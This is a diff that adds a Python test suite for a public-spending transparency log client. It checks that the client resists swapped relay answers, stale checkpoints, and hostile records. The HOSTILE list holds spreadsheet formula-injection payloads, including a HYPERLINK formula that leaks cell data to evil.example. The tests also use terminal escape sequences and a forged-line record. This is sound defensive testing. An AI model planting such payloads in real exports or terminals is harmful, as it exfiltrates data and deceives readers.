@@ -1,0 +1,479 @@
+"""Truthful reading (issue 19): what people see is what the log proves, and
+nothing a log or a relay sends can mislead or exhaust a reader.
+
+Each test puts a misbehaving relay (a proxy on loopback that swaps,
+replays, pads or rewrites answers) or a hostile record between a real
+pubtraild and the real client, and checks what a person or a program
+reading the output gets: the exit code, the reason, the bytes written.
+Exports are opened by LibreOffice (soffice --convert-to, headless) and the
+OCDS package is validated against the official OCDS 1.1 release-package
+schema (tests/ocds/, python3-jsonschema).
+"""
+import decimal
+import hashlib
+import http.client
+import http.server
+import json
+import os
+import shutil
+import subprocess
+import sys
+import threading
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import ptlib  # noqa: E402
+from test_client_roundtrip import Env, run, payment, permit  # noqa: E402
+
+TOP = ptlib.TOP
+
+
+class Relay:
+    """An HTTP relay on a free loopback port in front of a pubtraild.
+    route(path, headers) may return a path to fetch instead, or a tuple
+    (status, body, content type) to answer without asking the log; every
+    request's path and headers are recorded in .seen."""
+
+    def __init__(self, target_port, route=None):
+        self.target = target_port
+        self.route = route or (lambda path, headers: None)
+        self.seen = []
+        relay = self
+
+        class H(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *a):
+                pass
+
+            def do_GET(self):
+                hdrs = {k: v for k, v in self.headers.items()}
+                relay.seen.append((self.path, hdrs))
+                r = relay.route(self.path, hdrs)
+                if isinstance(r, tuple):
+                    status, body, ctype = r
+                else:
+                    path = r or self.path
+                    c = http.client.HTTPConnection("127.0.0.1", relay.target,
+                                                   timeout=30)
+                    try:
+                        c.request("GET", path, headers={
+                            "Accept": self.headers.get("Accept", "*/*")})
+                        a = c.getresponse()
+                        status, body = a.status, a.read()
+                        ctype = a.getheader("Content-Type")
+                    finally:
+                        c.close()
+                self.send_response(status)
+                if ctype:
+                    self.send_header("Content-Type", ctype)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.srv.daemon_threads = True
+        self.url = "http://127.0.0.1:%d" % self.srv.server_address[1]
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+        ptlib._live.append(self)
+
+    def kill(self):
+        if self in ptlib._live:
+            ptlib._live.remove(self)
+            self.srv.shutdown()
+            self.srv.server_close()
+
+
+def L(env, url):
+    return ["--log", url, "--log-key", env.logvkey]
+
+
+def two_office_env():
+    """Env with a second office (B) allowed to submit; returns (env, bkey,
+    bvkey)."""
+    env = Env()
+    bkey = env.path("b.key")
+    bvkey = run("keygen", "--name", "works.example-city.gov", "--out", bkey,
+                check=0).stdout.decode().strip()
+    with open(os.path.join(env.d.data, "submitters"), "a") as f:
+        f.write("%s payment permit_decision correction\n" % bvkey)
+    env.d.stop()
+    env.d.start(port=env.d.port)
+    return env, bkey, bvkey
+
+
+def submit_as(env, key, records, name):
+    f = env.write(name, "\n".join(json.dumps(r) for r in records) + "\n")
+    p = run("submit", *env.L, "--key", key, "--json", "--receipts",
+            env.path("rcpt-" + name), f, check=0)
+    return {json.loads(x)["id"]: json.loads(x)["index"]
+            for x in p.stdout.decode().splitlines()}
+
+
+# ------------------------------------------------ answers bound to questions
+
+def test_answers_bound_to_questions():
+    env, bkey, bvkey = two_office_env()
+    try:
+        ia = submit_as(env, env.key, [payment("A-1"), payment("A-2")], "a")
+        ib = submit_as(env, bkey, [payment("B-1")], "b")
+        sid_a = hashlib.sha256(env.vkey.encode()).hexdigest()
+        sid_b = hashlib.sha256(bvkey.encode()).hexdigest()
+
+        # /lookup of A's A-1 answered with B's B-1 (a genuine entry, with
+        # its valid proof)
+        def swap_lookup(path, h):
+            if path.startswith("/lookup?"):
+                return "/lookup?submitter=%s&id=B-1" % sid_b
+        r = Relay(env.d.port, swap_lookup)
+        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
+                "--id", "A-1", check=1)
+        err = p.stderr.decode()
+        assert "another office" in err and "works.example-city.gov+" in err, err
+        assert b"verified" not in p.stdout
+        # same office, another id
+        r.route = lambda path, h: ("/lookup?submitter=%s&id=A-2" % sid_a
+                                   if path.startswith("/lookup?") else None)
+        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
+                "--id", "A-1", check=1)
+        assert b"record A-2: not the record asked for" in p.stderr, p.stderr
+        # honest relay: verified, the signer named with its key hash
+        r.route = lambda path, h: None
+        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
+                "--id", "A-1", check=0)
+        name, khash = env.vkey.split("+")[:2]
+        assert ("signed by %s+%s" % (name, khash)).encode() in p.stdout, \
+            p.stdout
+
+        # /entry/N answered with entry M
+        a1, a2 = ia["A-1"], ia["A-2"]
+        r.route = lambda path, h: ("/entry/%d" % a2 if path == "/entry/%d" % a1
+                                   else None)
+        p = run("get", "entry", *L(env, r.url), a1, check=1)
+        assert b"not the entry at index %d" % a1 in p.stderr, p.stderr
+
+        # an inclusion proof for another index than asked
+        def other_proof(path, h):
+            if path.startswith("/proof/inclusion?index=%d&" % a1):
+                return path.replace("index=%d" % a1, "index=%d" % ib["B-1"])
+        r.route = other_proof
+        p = run("get", "entry", *L(env, r.url), a1, check=1)
+        assert b"not the one asked for" in p.stderr, p.stderr
+        # a consistency proof for other sizes than asked
+        old = env.path("old.ckpt")
+        with open(old, "wb") as f:
+            f.write(env.d.get("/checkpoint").body)
+        submit_as(env, env.key, [payment("A-3")], "a3")
+
+        def other_cons(path, h):
+            if path.startswith("/proof/consistency?"):
+                return "/proof/consistency?old=1&new=2"
+        r.route = other_cons
+        p = run("get", "consistency", *L(env, r.url), "--from", old, check=1)
+        assert b"not the one asked for" in p.stderr, p.stderr
+        r.kill()
+    finally:
+        env.close()
+
+
+# ------------------------------------------------------ stale, not rollback
+
+def test_stale_is_not_rollback():
+    env = Env()
+    try:
+        submit_as(env, env.key, [payment("S-%d" % i) for i in range(5)], "s")
+        old_note = env.d.get("/checkpoint").body
+        state = env.path("audit-state")
+        run("audit", *env.L, "--state", state, check=0)
+        submit_as(env, env.key, [payment("T-%d" % i) for i in range(3)], "t")
+        run("audit", *env.L, "--state", state, check=0)
+        saved = open(os.path.join(state, "checkpoint"), "rb").read()
+
+        # a cache that keeps serving the old checkpoint, even when asked to
+        # revalidate; proofs pass through to the live log
+        r = Relay(env.d.port, lambda path, h: (200, old_note, "text/plain")
+                  if path == "/checkpoint" else None)
+        for cmd in (["get", "checkpoint"], ["audit", "--state", state],
+                    ["monitor", "--once", "--state", state]):
+            r.seen.clear()
+            p = run(cmd[0], *L(env, r.url), *cmd[1:], check=7)
+            err = p.stderr.decode()
+            assert "stale" in err and "not a rollback" in err, (cmd, err)
+            assert "rolled back" not in err and "FAILED" not in err, err
+            cks = [h for path, h in r.seen if path == "/checkpoint"]
+            # asked twice, the second time past caches
+            assert len(cks) == 2, (cmd, r.seen)
+            assert cks[1].get("Cache-Control") == "no-cache", cks[1]
+            assert cks[0].get("Cache-Control") is None, cks[0]
+        assert open(os.path.join(state, "checkpoint"), "rb").read() == saved
+
+        # a cache that serves the old checkpoint once, then the fresh one
+        # when asked past it: no error at all
+        n = {"ck": 0}
+
+        def once(path, h):
+            if path == "/checkpoint" and h.get("Cache-Control") != "no-cache":
+                return (200, old_note, "text/plain")
+        r.route = once
+        run("get", "checkpoint", *L(env, r.url), check=0)
+        run("audit", *L(env, r.url), "--state", state, check=0)
+        del n
+        r.kill()
+    finally:
+        env.close()
+
+
+# ------------------------------------------------------------ safe exports
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-3+4*cmd",
+    "@SUM(1+1)",
+    "=1+1",
+]
+
+
+def fods_cells(path):
+    """Convert a CSV with LibreOffice (headless) to flat ODS; return
+    (formulas, texts)."""
+    out = os.path.dirname(path)
+    home = ptlib.tmpdir("pt-lo-")
+    subprocess.run(["soffice", "--headless", "-env:UserInstallation=file://" +
+                    home, "--convert-to", "fods", "--outdir", out, path],
+                   stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                   timeout=180, check=True, env=dict(os.environ, HOME=home))
+    text = open(path[:-4] + ".fods", encoding="utf-8").read()
+    import re
+    return (re.findall(r'table:formula="([^"]*)"', text),
+            re.findall(r"<text:p>([^<]*)</text:p>", text))
+
+
+def test_exports_safe_to_open():
+    env = Env()
+    try:
+        recs = []
+        for i, h in enumerate(HOSTILE):
+            p = payment("X-%d" % i, amount=-1250 - i)
+            p["payee"]["name"] = h
+            p["description"] = h
+            recs.append(p)
+        big = payment("BIG-1", amount=9223372036854775807)
+        recs.append(big)
+        pm = permit("PER-1", "=BP-1")
+        pm["est_project_cost_minor"] = 123456789
+        recs.append(pm)
+        idx = submit_as(env, env.key, recs, "x")
+        d = ptlib.tmpdir("pt-exp-")
+        for fmt in ("csv", "blds"):
+            safe = os.path.join(d, fmt + ".csv")
+            raw = os.path.join(d, fmt + "-raw.csv")
+            run("export", *env.L, "--format", fmt, "--out", safe, check=0)
+            run("export", *env.L, "--format", fmt, "--raw", "--out", raw,
+                check=0)
+            f_raw, _ = fods_cells(raw)
+            f_safe, texts = fods_cells(safe)
+            # the test can fail: unchanged cells are formulas in Calc
+            assert f_raw, (fmt, "LibreOffice ran no formula from --raw")
+            assert f_safe == [], (fmt, f_safe)
+            if fmt == "csv":
+                for h in HOSTILE:
+                    assert ("'" + h).replace("&", "&amp;").replace(
+                        '"', "&quot;").replace("'", "&apos;") in texts, \
+                        (h, texts[:80])
+                # negative amounts stay numbers, not text
+                assert "-12.50" in texts or "-12.5" in texts, texts[:80]
+            else:
+                assert "&apos;=BP-1" in texts or "'=BP-1" in texts, texts
+                import csv
+                rows = list(csv.reader(open(safe, newline="")))
+                hdr, row = rows[0], rows[1]
+                assert hdr[-1] == "Currency", hdr
+                assert row[hdr.index("Fee")] == "150.50"
+                assert row[hdr.index("EstProjectCost")] == "1234567.89"
+                assert row[hdr.index("Currency")] == "USD"
+
+        # OCDS: exact amounts, valid against the official schema
+        pkg_path = os.path.join(d, "ocds.json")
+        run("export", *env.L, "--format", "ocds", "--out", pkg_path, check=0)
+        pkg = json.load(open(pkg_path), parse_float=decimal.Decimal)
+        amounts = {}
+        for rel in pkg["releases"]:
+            for c in rel["contracts"]:
+                assert c["awardID"] in [a["id"] for a in rel["awards"]]
+                for t in c["implementation"]["transactions"]:
+                    amounts[t["id"]] = t["value"]["amount"]
+        assert amounts["BIG-1"] == decimal.Decimal("92233720368547758.07"), \
+            amounts["BIG-1"]
+        assert "92233720368547758.07" in open(pkg_path).read()
+        assert amounts["X-0"] == decimal.Decimal("-12.50")
+        assert pkg["uri"].startswith("urn:pubtrail:") and \
+            "/checkpoint" not in pkg["uri"], pkg["uri"]
+        validate_ocds(pkg_path)
+        del idx
+    finally:
+        env.close()
+
+
+def validate_ocds(path):
+    import jsonschema
+    sdir = os.path.join(TOP, "tests", "ocds")
+    rel = json.load(open(os.path.join(sdir, "release-schema.json")))
+    pkg = json.load(open(os.path.join(sdir, "release-package-schema.json")))
+    resolver = jsonschema.RefResolver.from_schema(pkg, store={
+        rel["id"]: rel, pkg["id"]: pkg})
+    v = jsonschema.Draft4Validator(pkg, resolver=resolver,
+                                   format_checker=jsonschema.FormatChecker())
+    doc = json.load(open(path))
+    errors = sorted(v.iter_errors(doc), key=lambda e: list(e.path))
+    assert not errors, [(list(e.path), e.message) for e in errors[:5]]
+    return doc
+
+
+# ----------------------------------------------------------- terminal output
+
+def test_terminal_cannot_be_forged():
+    env = Env()
+    try:
+        idx = submit_as(env, env.key, [payment("P-1")], "p")
+        leaf = hashlib.sha256(b"\x00" + env.d.get("/entry/%d" % idx["P-1"]).body
+                              ).hexdigest()
+        forged = ("typo\n%d payment FAKE-9 2026-03-01 99.00 EUR City Finance "
+                  "-> Evil Ltd" % (idx["P-1"] + 5))
+        corr = {"type": "correction", "id": "C-1", "action": "void",
+                "target_index": idx["P-1"], "target_leaf_hash": leaf,
+                "reason": forged}
+        pay = payment("P-2")
+        pay["payee"]["name"] = "Acme\u202eRoads"
+        submit_as(env, env.key, [corr, pay], "c")
+        p = run("monitor", *env.L, "--from-start", "--once", check=0)
+        out = p.stdout.decode()
+        lines = out.splitlines()
+        assert len(lines) == 3, lines
+        assert "FAKE-9" in lines[1] and "typo\\n" in lines[1], lines
+        assert "\u202e" not in out and "\\u202e" in out, out
+    finally:
+        env.close()
+
+
+# ------------------------------------------------------- small things
+
+def test_closed_pipe_and_small_things():
+    env = Env()
+    try:
+        recs = [payment("Q-%d" % i) for i in range(600)]
+        recs.append(dict(payment("Z-1"), payee={
+            "kind": "organization", "scheme": "GB-COH", "id": "9",
+            "name": "Ac\u200bme Roads"}))
+        submit_as(env, env.key, recs, "q")
+        # a reader that stops after two lines: quiet, SIGPIPE
+        for fmt in ("csv", "jsonl", "ocds"):
+            pr = subprocess.Popen([ptlib.PUBTRAIL, "export", *env.L,
+                                   "--format", fmt, "--quiet"],
+                                  stdout=subprocess.PIPE,
+                                  stderr=subprocess.PIPE)
+            pr.stdout.readline()
+            pr.stdout.readline()
+            pr.stdout.close()
+            err = pr.stderr.read()
+            rc = pr.wait(timeout=60)
+            assert rc == -13, (fmt, rc, err)
+            assert err == b"", (fmt, err)
+        # filters: case, zero-width space
+        p = run("monitor", *env.L, "--from-start", "--once", "--payee",
+                "ACME ROADS", check=0)
+        assert "Z-1" in p.stdout.decode() and p.stdout.count(b"\n") == 1, \
+            p.stdout
+        p = run("monitor", *env.L, "--from-start", "--once", "--payee",
+                "acme ltd", check=0)
+        assert p.stdout.count(b"\n") == 600
+        run("monitor", *env.L, "--once", "--type", "bogus", check=2)
+        # JSON: one encoding per field (hex hashes), same names
+        ck = json.loads(run("get", "checkpoint", *env.L, "--json",
+                            check=0).stdout)
+        au = json.loads(run("audit", *env.L, "--json", check=0).stdout)
+        assert ck["root"] == au["root"] and len(ck["root"]) == 64
+        assert ck["tree_size"] == au["tree_size"]
+        # verify names what it was given
+        jr = env.write("rec.json", json.dumps(payment("J-1")))
+        p = run("verify", "--log-key", env.logvkey, jr, check=1)
+        assert b"a JSON payment record" in p.stderr and \
+            b"not a receipt" in p.stderr, p.stderr
+        ckf = env.path("ck.txt")
+        with open(ckf, "wb") as f:
+            f.write(env.d.get("/checkpoint").body)
+        p = run("verify", "--log-key", env.logvkey, ckf, check=1)
+        assert b"a signed note" in p.stderr, p.stderr
+        p = run("verify", "--log-key", env.logvkey, "--json",
+                env.path("missing.receipt"), check=6)
+        o = json.loads(p.stdout)
+        assert o["valid"] is False and o["error"] == "io", o
+    finally:
+        env.close()
+
+
+def test_names_people_can_trust():
+    a = ptlib.Key("finance-office")
+    b = ptlib.Key("finance-office")
+    d = ptlib.Daemon(submitters=[(a, ["payment"]), (b, ["payment"])])
+    try:
+        d.start(wait=False)
+        rc = d.proc.wait(timeout=30)
+        assert rc != 0
+        log = d.logtext()
+        assert 'a second key named "finance-office"' in log, log
+    finally:
+        d.kill()
+
+
+def test_gossip_peer_claims():
+    """A gossip peer that answers our POST with 409 and terminal control
+    bytes: its claim is shown escaped, and is not an exit 1."""
+    env = Env()
+    try:
+        state = env.path("gossip")
+        run("gossip", "sync", "--state", state, "--log", env.url,
+            "--log-key", env.logvkey, "--peer", env.url + "/nope", check=None)
+
+        class Peer(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *a):
+                pass
+
+            def reply(self, status, body):
+                self.send_response(status)
+                self.send_header("Content-Type", "text/plain")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_GET(self):
+                self.reply(200, b"")
+
+            def do_POST(self):
+                self.rfile.read(int(self.headers["Content-Length"]))
+                self.reply(409, b"\x1b]0;owned\x07\x1b[2J split view!\n"
+                           b"gossip: 1 log(s) consistent\n")
+        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Peer)
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+        try:
+            p = run("gossip", "sync", "--state", state, "--peer",
+                    "http://127.0.0.1:%d" % srv.server_address[1])
+            assert p.returncode == 0, (p.returncode, p.stderr)
+            assert b"\x1b" not in p.stderr and b"\\x1b" in p.stderr, p.stderr
+            assert b"claim" in p.stderr
+        finally:
+            srv.shutdown()
+            srv.server_close()
+    finally:
+        env.close()
+
+
+if __name__ == "__main__":
+    sys.exit(ptlib.run_tests([test_answers_bound_to_questions,
+                              test_stale_is_not_rollback,
+                              test_exports_safe_to_open,
+                              test_terminal_cannot_be_forged,
+                              test_closed_pipe_and_small_things,
+                              test_names_people_can_trust,
+                              test_gossip_peer_claims]))
